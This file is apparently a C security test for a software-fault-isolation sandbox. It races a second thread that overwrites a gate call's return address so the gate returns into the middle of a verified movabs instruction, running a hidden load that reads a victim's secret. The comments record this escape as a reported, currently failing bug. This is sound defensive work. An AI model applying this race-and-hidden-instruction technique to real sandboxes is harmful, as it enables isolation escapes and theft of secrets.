/* A forged return address raced into the gate: the gate pops its return
 * address from the cVM stack at once (monitor/gate.S), so the only way to
 * forge it is another thread storing into the caller's return slot
 * between the `call *%gs:0x10000` that pushes it and the gate's pop. One
 * thread calls getpid through the gate in a loop with a known return
 * slot; another keeps storing there `hidden + 2`, two bytes into a
 * verified `movabs`, whose immediate hides `mov (%rbx), %rax` (a plain
 * load; %rbx survives the gate and holds the victim's secret's address).
 * The gate returns to its address zero-extended to 32 bits, without C1's
 * low-5-bit mask (docs/sfi.md C4 says it returns with C1's mask), so a won
 * race lands mid-instruction: the hidden load runs and `caught` prints
 * what it read. (A store that hits an ordinary return instead lands,
 * masked by C3, on the movabs's first byte: caught says so.) Up to 2.5 s
 * of racing; here it is won in almost every run, often within 4096 calls. Must
 * be contained: with C1's mask in the gate the forged return would land
 * on the bundle start (the movabs: harmless). Fails today: reported. */
#include "race.h"

static volatile unsigned long slot, stop, forged, stores, calls;

__attribute__((used, noreturn)) static void caught(unsigned long v) {
  if (v == 0x9090909090038b48ul) /* the movabs ran from its first byte */
    out("a return landed on the bundle start (masked): contained\n");
  else
    say("ESCAPED: the gate returned mid-instruction; the hidden load read ", v);
  say("gate calls before it, to the next 4096: ", calls + 4096);
  end(0);
}

__asm__(".text\n.p2align 5\n.globl hidden\nhidden:\n"
        " movabs $0x9090909090038b48, %rax\n"
        " mov %rax, %rdi\n"
        " call caught\n"
        " ud2\n");
extern char hidden[];

static void racer(void *arg) {
  while (!slot)
    ;
  volatile unsigned long *p = (volatile unsigned long *)slot;
  unsigned long f = forged;
  while (!stop) {
    *p = f;
    stores++;
  }
  thread_exit();
}

int main(int argc, char **argv) {
  forged = (unsigned long)hidden + 2;
  if (start_thread(racer, 0) < 0) {
    out("no thread\n");
    end(1);
  }
  unsigned long t0 = now_ms(), target = victim_secret(argv);
  while (now_ms() - t0 < 2500) {
    /* 4096 gate calls from one %rsp, 8 KiB below main's, where no other
     * call's return address lies: the slot is %rsp - 8 at each call */
    unsigned long depth = 8192;
    __asm__ volatile("mov %%rsp, %%r13\n sub %2, %%rsp\n"
                     "mov %%rsp, %%rax\n sub $8, %%rax\n mov %%rax, %1\n"
                     "mov $4096, %%r12d\n"
                     "1: mov $39, %%edi\n call *%%gs:0x10000\n dec %%r12d\n jnz 1b\n"
                     "mov %%r13, %%rsp"
                     : "+b"(target), "=m"(slot)
                     : "r"(depth) : "rax", "rcx", "rdx", "rsi", "rdi", "r8", "r9", "r10", "r11",
                       "r12", "r13", "memory");
    calls += 4096;
  }
  stop = 1;
  say("gate calls ", calls);
  say("racing stores ", stores);
  out("the race was never won\n");
  end(0);
}
